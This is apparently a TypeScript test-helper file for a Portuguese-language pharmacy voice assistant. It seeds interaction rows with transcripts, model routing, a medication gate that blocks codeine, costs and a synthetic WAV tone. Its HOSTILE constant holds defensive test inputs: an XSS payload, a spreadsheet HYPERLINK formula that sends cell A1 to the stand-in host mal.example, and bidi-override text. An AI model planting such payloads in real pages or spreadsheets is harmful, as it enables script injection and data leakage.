import { audioPath } from '../../core/store/audio-files.ts';
import type { Interaction } from '../../core/store/interaction.ts';
import { insertInteractions } from '../../core/store/interactions.ts';
import { insertShadow } from '../../core/store/shadow.ts';
import { insertUsage } from '../../core/store/usage.ts';
import type { RunningBalto } from './balto.ts';
import { interaction, shadow, usage } from './interactions.ts';

/** Text that somebody may say, name or send, and that must stay text. */
export const HOSTILE = {
  markup: '<img src=x onerror="window.pwned = true"><script>window.pwned = true</script>',
  formula: '=HYPERLINK("http://mal.example/?"&A1;"clique")',
  long: 'comprida'.repeat(12_500),
  reversed: 'tem \u202Eanipirid\u202C em gotas \u2067שלום\u2069?',
} as const;

/** Writes an utterance of the house's counter, as the drainer would; `minutesAgo` orders them. */
export async function storeTalk(
  house: Pick<RunningBalto, 'balto' | 'clientId' | 'counterId'>,
  fields: Partial<Interaction> = {},
  minutesAgo = 0,
): Promise<Interaction> {
  const { store } = house.balto;
  if (store.ids.available === 0) await store.ids.ready();
  const { clientId, counterId } = house;
  const timestamp = new Date(Date.now() - minutesAgo * 60_000);
  const row = interaction({ id: store.ids.nextId(), clientId, counterId, timestamp, ...fields });
  await store.db.system((trx) => insertInteractions(trx, [row]));
  return row;
}

/** One with everything that a row can hold: times, words, decision, gate, costs, a comparison, scores, and its voice. */
export async function storeWholeTalk(
  house: Pick<RunningBalto, 'balto' | 'clientId' | 'counterId'>,
  fields: Partial<Interaction> = {},
): Promise<Interaction> {
  const { store } = house.balto;
  const ended = Date.now() - 60_000;
  const at = (ms: number) => new Date(ended + ms);
  const attempt = (address: string, startMs: number, durationMs: number, more: object) => ({
    ...{ address, purpose: 'answer', mode: 'batch', queueMs: 0, firstByteMs: 20, replayedMs: 0, costMicroUsd: 0 },
    ...{ startedAt: at(startMs).toISOString(), durationMs, ...more },
  });
  const words = ['estou', 'com', 'tosse', 'seca', 'e', 'dor', 'de', 'garganta', 'sou', 'a', 'Rosa'];
  const row = await storeTalk(house, {
    timestamp: at(900),
    transcript: 'estou com tosse seca e dor de garganta, sou a [NOME]',
    recommendation: 'S: Pastilha para garganta | S: Mel com própolis',
    feedback: 'aceito',
    sttModel: 'acme',
    configVersion: 7,
    promptVersion: 'recomendar-5',
    listVersion: '2026-11-01',
    costMicroUsd: 1830,
    segmentDurationMs: 4200,
    snr: 18.4,
    audioClass: 'fala',
    cutReason: 'silence_end',
    employeeId: null,
    tsSpeechEnd: at(0),
    tsAudioReceived: at(900),
    tsTranscriptionSent: at(905),
    tsTranscriptionReady: at(2300),
    tsAiRequest: at(2340),
    tsAiResponse: at(3180),
    tsClientSent: at(3190),
    modelRawResponse: '{"necessidades":["garganta_tosse"],"itens":[{"id":11}]}',
    speakerData: JSON.stringify([
      { id: 1, name: 'Ana', score: 0.42 },
      { id: 2, name: 'Beto', score: 0.21, hint: true },
    ]),
    words: {
      confidence: 0.86,
      doubtful: 1,
      words: words.map((text, index) => ({
        text: index === 10 ? null : text,
        startMs: index * 380,
        endMs: index * 380 + 320,
        confidence: text === 'seca' ? 0.31 : 0.94,
      })),
    },
    decision: {
      ...{ rule: 'curtas', version: 7, mode: 'segment', status: 'answered', address: 'stt/acme:dois', lostMs: 0 },
      candidates: ['stt/outra', 'stt/acme:dois'],
      rejected: [{ address: 'stt/longe', reason: 'a região não é permitida' }],
      attempts: [
        attempt('stt/outra', 905, 610, { outcome: 'failed', error: { code: 'server', blame: 'vendor' } }),
        attempt('stt/acme:dois', 1520, 780, { outcome: 'answered', replayedMs: 4200 }),
      ],
    },
    gate: {
      filtros: [
        { rule: 'legendas', removed: 'legendado por alguém' },
        { rule: 'dados_pessoais', mascarados: { nome: 1 } },
      ],
      decisoes: [
        ...[{ name: 'Pastilha para garganta', allowed: true, rule: 'venda_livre', ruleId: 'otc-114' }],
        ...[{ name: 'Codeína 30 mg', allowed: false, rule: 'classe_de_venda', ruleId: null }],
      ].map((each) => ({
        ...each,
        listVersion: '2026-11-01',
        reason: each.allowed ? 'está na lista para dor de garganta' : 'tarja preta: nunca é oferecida',
        candidateId: 11,
      })),
      ...{ fonte: 'llm', entrega: 'enviado', necessidades: ['garganta_tosse'], duvidas: ['codeína'], segmentos: [3] },
      evidencias: [
        { tipo: 'A', trecho: 'dor de garganta', dito: true },
        { tipo: 'B', trecho: 'febre alta', dito: false },
      ],
      tentativas: [attempt('llm/acme', 2340, 840, { outcome: 'answered' })],
    },
    candidates: [{ id: 11, nome: 'Pastilha para garganta', classe_venda: 'venda_livre', pontos: 0.82 }],
    ...fields,
  });
  const { clientId, counterId } = house;
  const path = audioPath({ id: row.id, counterId, at: row.timestamp });
  await store.audio.write(path, toneWav(4200));
  await store.db.system(async (trx) => {
    await trx.updateTable('interacoes').set({ audio_file_path: path }).where('id', '=', row.id).execute();
    const whose = { clientId, counterId, interactionId: row.id };
    await insertUsage(trx, [
      usage({ ...whose, provider: 'stt/acme:dois', quantity: 4.2, costMicroUsd: 1410 }),
      usage({
        ...whose,
        provider: 'llm/acme',
        kind: 'llm',
        unit: 'token',
        of: 'text_in',
        quantity: 812,
        costMicroUsd: 420,
      }),
    ]);
    const heard = { provider: 'stt/acme:dois', text: 'estou com tosse seca e dor de garganta' };
    await insertShadow(
      trx,
      row.id,
      shadow({ clientId, answer: heard, text: 'estou com tosse, cerca de dor de garganta' }),
    );
  });
  return row;
}

/** So many milliseconds of a quiet tone, as a file. */
function toneWav(ms: number): Buffer {
  const samples = (16_000 * ms) / 1000;
  const wav = Buffer.alloc(44 + samples * 2);
  wav.write('RIFF', 0, 'latin1');
  wav.writeUInt32LE(36 + samples * 2, 4);
  wav.write('WAVEfmt ', 8, 'latin1');
  for (const [at, value, bytes] of [
    ...[
      [16, 16, 4],
      [20, 1, 2],
      [22, 1, 2],
      [24, 16_000, 4],
      [28, 32_000, 4],
      [32, 2, 2],
      [34, 16, 2],
    ],
  ] as const) {
    wav.writeUIntLE(value as number, at as number, bytes as number);
  }
  wav.write('data', 36, 'latin1');
  wav.writeUInt32LE(samples * 2, 40);
  for (let at = 0; at < samples; at++) wav.writeInt16LE(Math.round(1500 * Math.sin(at / 12)), 44 + at * 2);
  return wav;
}
